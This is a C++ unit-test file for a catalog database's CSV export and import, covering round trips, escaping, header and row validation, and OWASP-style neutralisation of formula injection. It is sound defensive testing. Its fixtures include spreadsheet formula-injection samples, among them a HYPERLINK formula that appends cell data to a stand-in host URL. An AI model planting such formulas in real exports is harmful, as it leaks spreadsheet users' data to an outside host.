#include "database/import/CatalogCsv.h"
#include "ImporterTestSupport.h"
#include "database/import/SkyPilotImporter.h"
#include "database/schema/CatalogSchema.h"

#include <QBuffer>
#include <QDir>
#include <QFile>

#include <algorithm>
#include <atomic>
#include <memory>
#include <vector>

using namespace acceldecide::db;
using namespace acceldecide::db::test;

namespace {

QByteArray readAll(const QString &path)
{
    QFile file(path);
    return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray("<missing>");
}

qint64 totalRows(QSqlDatabase &db)
{
    qint64 rows = 0;
    for (const QString &table : CatalogCsv::tables())
        rows += count(db, table.toLatin1().constData());
    return rows;
}

QStringList formulaTexts()
{
    return {QStringLiteral("=HYPERLINK(\"http://x\"&A1,\"click\")"),
            QStringLiteral("+1"),
            QStringLiteral("-cmd"),
            QStringLiteral("@SUM(A1)"),
            QStringLiteral("\t=1"),
            QStringLiteral("\r=1"),
            QStringLiteral("'=already"),
            QStringLiteral("''@twice"),
            QStringLiteral("'plain")};
}

// A catalog with the shipped seed, an import and user rows whose text needs every
// escape the format has: commas, quotes, line breaks, a backslash, "" and NULL.
void fillCatalog(TempCatalog &temp)
{
    ASSERT_FALSE(SkyPilotImporter::import(*temp.catalog, fixture("skypilot-aws-vms.csv"),
                                          import::SkyPilotCloud::fromName(QStringLiteral("aws")))
                     .refused);
    QSqlQuery query(temp.db());
    ASSERT_TRUE(query.exec(
        QStringLiteral("INSERT INTO sources (title, publisher, url, kind, notes) VALUES "
                       "('Quote \"test\", with comma', '', NULL, 'user', 'two\r\nlines'), "
                       "('\\N literally', '\\\\server\\share', 'x', 'user', ' padded ')")))
        << query.lastError().text().toStdString();
    // Text a spreadsheet would run as a formula, and text that already looks guarded.
    QSqlQuery formulas(temp.db());
    formulas.prepare(QStringLiteral("INSERT INTO sources (title, publisher, kind, notes) "
                                    "VALUES (?, ?, 'user', ?)"));
    for (const QString &text : formulaTexts()) {
        formulas.addBindValue(text);
        formulas.addBindValue(text);
        formulas.addBindValue(text);
        ASSERT_TRUE(formulas.exec()) << formulas.lastError().text().toStdString();
    }
    ASSERT_TRUE(query.exec(QStringLiteral(
        "INSERT INTO scenarios (name, json, created, modified) VALUES "
        "('mine', '{\"a\": [1, 2]}', '2026-07-01T09:00:00Z', '2026-07-02T10:00:00Z')")));
    // 0.1 + 0.2 computed here and bound: PostgreSQL would add the literals exactly.
    QSqlQuery price(temp.db());
    price.prepare(QStringLiteral(
        "INSERT INTO price_observations (instance_type_id, region, purchase_model, hourly_usd, "
        "observed_date, source_id) SELECT id, 'eu-west-1', 'on_demand', ?, "
        "'2026-07-01', (SELECT max(id) FROM sources) FROM instance_types ORDER BY id LIMIT 1"));
    const double inexact = 0.1;
    price.addBindValue(inexact + 0.2);
    ASSERT_TRUE(price.exec()) << price.lastError().text().toStdString();
}

} // namespace

// Every case runs on SQLite and on PostgreSQL.
class CatalogCsvTest : public BackendTest
{};

TEST_P(CatalogCsvTest, ExportImportExportIsByteIdentical)
{
    TempCatalog original(CatalogDatabase::Seeding::Load, GetParam());
    fillCatalog(original);
    const QString first = original.dir.filePath(QStringLiteral("first"));
    ASSERT_TRUE(CatalogCsv::exportTo(*original.catalog, first).ok());

    TempCatalog empty(CatalogDatabase::Seeding::Skip, GetParam());
    const ImportReport report = CatalogCsv::importFrom(*empty.catalog, first);
    ASSERT_FALSE(report.refused) << report.message.toStdString();
    EXPECT_EQ(report.rowsRejected, 0) << report.rejections.join('\n').toStdString();
    EXPECT_EQ(report.rowsImported, totalRows(original.db()));
    EXPECT_EQ(totalRows(empty.db()), totalRows(original.db()));

    const QString second = empty.dir.filePath(QStringLiteral("second"));
    ASSERT_TRUE(CatalogCsv::exportTo(*empty.catalog, second).ok());
    for (const QString &table : CatalogCsv::tables()) {
        const QString name = table + QStringLiteral(".csv");
        EXPECT_EQ(readAll(QDir(first).filePath(name)), readAll(QDir(second).filePath(name)))
            << name.toStdString();
    }
    EXPECT_TRUE(readAll(QDir(first).filePath(QStringLiteral("sources.csv")))
                    .contains("\"Quote \"\"test\"\", with comma\",,\\N,"));
    EXPECT_TRUE(readAll(QDir(first).filePath(QStringLiteral("sources.csv")))
                    .contains("\\\\N literally,\\\\\\server\\share,x"));
    EXPECT_TRUE(readAll(QDir(first).filePath(QStringLiteral("price_observations.csv")))
                    .contains(",0.30000000000000004,"));
}

// OWASP's advice for every text cell that starts like a formula: a leading quote, and
// the field quoted. The import drops exactly that quote, so the texts come back as they
// were (the byte-identical round trip above holds these rows too).
TEST_P(CatalogCsvTest, NeutralisesFormulaTextAndImportRestoresIt)
{
    TempCatalog original(CatalogDatabase::Seeding::Skip, GetParam());
    fillCatalog(original);
    QSqlQuery query(original.db());
    // Numbers are never guarded: a negative one stays a number.
    ASSERT_TRUE(query.exec(QStringLiteral("INSERT INTO porting_profiles (scenario, weeks_low, "
                                          "source_id) SELECT '-negative', -2.5, max(id) FROM "
                                          "sources")));
    const QString directory = original.dir.filePath(QStringLiteral("export"));
    ASSERT_TRUE(CatalogCsv::exportTo(*original.catalog, directory).ok());
    const QByteArray sources = readAll(QDir(directory).filePath(QStringLiteral("sources.csv")));
    for (const char *field : {R"x("'=HYPERLINK(""http://x""&A1,""click"")")x", R"("'+1")",
                              R"("'-cmd")", R"x("'@SUM(A1)")x", "\"'\t=1\"", "\"'\r=1\"",
                              R"("''=already")", R"("'''@twice")", ",'plain,"})
        EXPECT_TRUE(sources.contains(field)) << field << "\n" << sources.toStdString();
    for (const char *live : {",=", ",+", ",@", ",-c", "\n=", "\n+", "\n@"})
        EXPECT_FALSE(sources.contains(live)) << live;
    EXPECT_TRUE(readAll(QDir(directory).filePath(QStringLiteral("porting_profiles.csv")))
                    .contains(R"(,"'-negative",-2.5,)"));

    TempCatalog copy(CatalogDatabase::Seeding::Skip, GetParam());
    const ImportReport report = CatalogCsv::importFrom(*copy.catalog, directory);
    ASSERT_FALSE(report.refused) << report.message.toStdString();
    EXPECT_EQ(report.rowsRejected, 0) << report.rejections.join('\n').toStdString();
    QSqlQuery titles(copy.db());
    ASSERT_TRUE(titles.exec(
        QStringLiteral("SELECT title, publisher FROM sources WHERE notes = title ORDER BY id")));
    QStringList imported;
    while (titles.next()) {
        EXPECT_EQ(titles.value(0), titles.value(1));
        imported << titles.value(0).toString();
    }
    EXPECT_EQ(imported, formulaTexts());
    QSqlQuery profile(copy.db());
    ASSERT_TRUE(profile.exec(QStringLiteral("SELECT scenario, weeks_low FROM porting_profiles")) &&
                profile.next());
    EXPECT_EQ(profile.value(0).toString(), QStringLiteral("-negative"));
    EXPECT_EQ(profile.value(1).toDouble(), -2.5);
}

TEST_P(CatalogCsvTest, ReimportingAddsNothingAndFollowsExistingRows)
{
    TempCatalog original(CatalogDatabase::Seeding::Load, GetParam());
    fillCatalog(original);
    const QString directory = original.dir.filePath(QStringLiteral("export"));
    ASSERT_TRUE(CatalogCsv::exportTo(*original.catalog, directory).ok());

    // Into the same catalog: every row is already there.
    const qint64 before = totalRows(original.db());
    const ImportReport again = CatalogCsv::importFrom(*original.catalog, directory);
    EXPECT_EQ(again.rowsImported, 0);
    EXPECT_EQ(again.rowsSkipped, before);
    EXPECT_EQ(totalRows(original.db()), before);

    // Into a catalog whose ids differ: references follow the rows, not the numbers.
    TempCatalog shifted(CatalogDatabase::Seeding::Skip, GetParam());
    QSqlQuery query(shifted.db());
    ASSERT_TRUE(query.exec(QStringLiteral("INSERT INTO sources (title, kind) VALUES ('taken id 1', "
                                          "'user'), ('taken id 2', 'user')")));
    const ImportReport report = CatalogCsv::importFrom(*shifted.catalog, directory);
    EXPECT_EQ(report.rowsRejected, 0) << report.rejections.join('\n').toStdString();
    EXPECT_EQ(
        count(shifted.db(), schema::priceObservations::kTable,
              QStringLiteral("source_id IN (SELECT id FROM sources WHERE title LIKE 'taken%')")),
        0);
    EXPECT_EQ(count(shifted.db(), schema::priceObservations::kTable),
              count(original.db(), schema::priceObservations::kTable));
}

TEST_P(CatalogCsvTest, RefusesDirectoriesThatAreNotAnExportBeforeWritingAnything)
{
    TempCatalog temp(CatalogDatabase::Seeding::Skip, GetParam());
    const QString directory = temp.dir.filePath(QStringLiteral("bad"));
    QDir().mkpath(directory);
    EXPECT_TRUE(CatalogCsv::importFrom(*temp.catalog, directory).refused);

    QFile sources(QDir(directory).filePath(QStringLiteral("sources.csv")));
    ASSERT_TRUE(sources.open(QIODevice::WriteOnly));
    sources.write("id,title,kind\n1,ok,user\n");
    sources.close();
    QFile prices(QDir(directory).filePath(QStringLiteral("price_observations.csv")));
    ASSERT_TRUE(prices.open(QIODevice::WriteOnly));
    prices.write("id,instance_type,region\n1,p5,us-east-1\n");
    prices.close();
    const ImportReport report = CatalogCsv::importFrom(*temp.catalog, directory);
    EXPECT_TRUE(report.refused);
    EXPECT_TRUE(report.message.contains(QStringLiteral("instance_type")))
        << report.message.toStdString();
    EXPECT_EQ(count(temp.db(), schema::sources::kTable), 0);
}

// A header naming a column twice cannot say which cell the row holds: written from one
// and matched against both, the same file imported twice would add its rows again.
TEST_P(CatalogCsvTest, RefusesAHeaderNamingAColumnTwice)
{
    TempCatalog temp(CatalogDatabase::Seeding::Skip, GetParam());
    QBuffer sources;
    sources.setData("kind,kind,title\nuser,text,Twice\n");
    const ImportReport report = CatalogCsv::importFiles(
        *temp.catalog, {{QStringLiteral("sources"), QStringLiteral("sources.csv"), &sources}},
        QStringLiteral("x"));
    EXPECT_TRUE(report.refused);
    EXPECT_EQ(
        report.message,
        QStringLiteral("sources.csv: the column \"kind\" appears more than once in the header"));
    EXPECT_EQ(count(temp.db(), schema::sources::kTable), 0);
}

TEST_P(CatalogCsvTest, RejectsBadRowsWithTheirLineAndCancelRollsBack)
{
    TempCatalog temp(CatalogDatabase::Seeding::Skip, GetParam());
    const QString directory = temp.dir.filePath(QStringLiteral("rows"));
    QDir().mkpath(directory);
    QFile sources(QDir(directory).filePath(QStringLiteral("sources.csv")));
    ASSERT_TRUE(sources.open(QIODevice::WriteOnly));
    sources.write("id,title,kind\n1,ok,user\n2,\\N,user\n3,bad kind,opinion\nx,short\n");
    sources.close();
    ImportReport report = CatalogCsv::importFrom(*temp.catalog, directory);
    EXPECT_EQ(report.rowsRead, 4);
    EXPECT_EQ(report.rowsImported, 1);
    EXPECT_EQ(report.rowsRejected, 3);
    ASSERT_EQ(report.rejections.size(), 3);
    EXPECT_TRUE(report.rejections[0].startsWith(QStringLiteral("line 3: sources.csv: title")))
        << report.rejections[0].toStdString();

    std::atomic<bool> cancel{true};
    ImportOptions options;
    options.cancel = &cancel;
    TempCatalog other(CatalogDatabase::Seeding::Skip, GetParam());
    EXPECT_TRUE(CatalogCsv::importFrom(*other.catalog, directory, options).cancelled);
    EXPECT_EQ(count(other.db(), schema::sources::kTable), 0);
}

// importFiles is what importFrom runs on the directory's files: over buffers (what the
// fuzz target passes), in any order and through a small read buffer, the same rows land.
TEST_P(CatalogCsvTest, ImportFilesOverBuffersMatchesTheDirectoryImport)
{
    TempCatalog original(CatalogDatabase::Seeding::Load, GetParam());
    fillCatalog(original);
    const QString directory = original.dir.filePath(QStringLiteral("export"));
    ASSERT_TRUE(CatalogCsv::exportTo(*original.catalog, directory).ok());

    TempCatalog fromDirectory(CatalogDatabase::Seeding::Skip, GetParam());
    const ImportReport expected = CatalogCsv::importFrom(*fromDirectory.catalog, directory);
    ASSERT_FALSE(expected.refused) << expected.message.toStdString();

    std::vector<std::unique_ptr<QBuffer>> buffers;
    std::vector<CatalogCsvFile> files;
    QStringList tables = CatalogCsv::tables();
    std::reverse(tables.begin(), tables.end()); // parents last: the import reorders them
    for (const QString &table : tables) {
        buffers.push_back(std::make_unique<QBuffer>());
        buffers.back()->setData(readAll(QDir(directory).filePath(table + QStringLiteral(".csv"))));
        files.push_back({table, table + QStringLiteral(".csv"), buffers.back().get(), 64});
    }
    TempCatalog fromBuffers(CatalogDatabase::Seeding::Skip, GetParam());
    const ImportReport report =
        CatalogCsv::importFiles(*fromBuffers.catalog, files, QStringLiteral("buffers"));
    ASSERT_FALSE(report.refused) << report.message.toStdString();
    EXPECT_EQ(report.source, QStringLiteral("buffers"));
    EXPECT_EQ(report.rowsRead, expected.rowsRead);
    EXPECT_EQ(report.rowsImported, expected.rowsImported);
    EXPECT_EQ(report.rowsRejected, 0) << report.rejections.join('\n').toStdString();
    EXPECT_EQ(report.message, expected.message);
    EXPECT_EQ(totalRows(fromBuffers.db()), totalRows(fromDirectory.db()));

    // Nothing to import, a table given twice, a table that is not exported: refused.
    EXPECT_TRUE(CatalogCsv::importFiles(*fromBuffers.catalog, {}, QStringLiteral("x")).refused);
    QBuffer one;
    one.setData("id,title,kind\n1,dup,user\n");
    QBuffer two;
    two.setData("id,title,kind\n2,dup,user\n");
    const qint64 before = totalRows(fromBuffers.db());
    EXPECT_TRUE(CatalogCsv::importFiles(*fromBuffers.catalog,
                                        {{QStringLiteral("sources"), QStringLiteral("a"), &one},
                                         {QStringLiteral("sources"), QStringLiteral("b"), &two}},
                                        QStringLiteral("x"))
                    .refused);
    EXPECT_TRUE(
        CatalogCsv::importFiles(*fromBuffers.catalog,
                                {{QStringLiteral("catalog_meta"), QStringLiteral("m"), &one}},
                                QStringLiteral("x"))
            .refused);
    EXPECT_EQ(totalRows(fromBuffers.db()), before);
}

ACCELDECIDE_ON_EVERY_BACKEND(CatalogCsvTest);
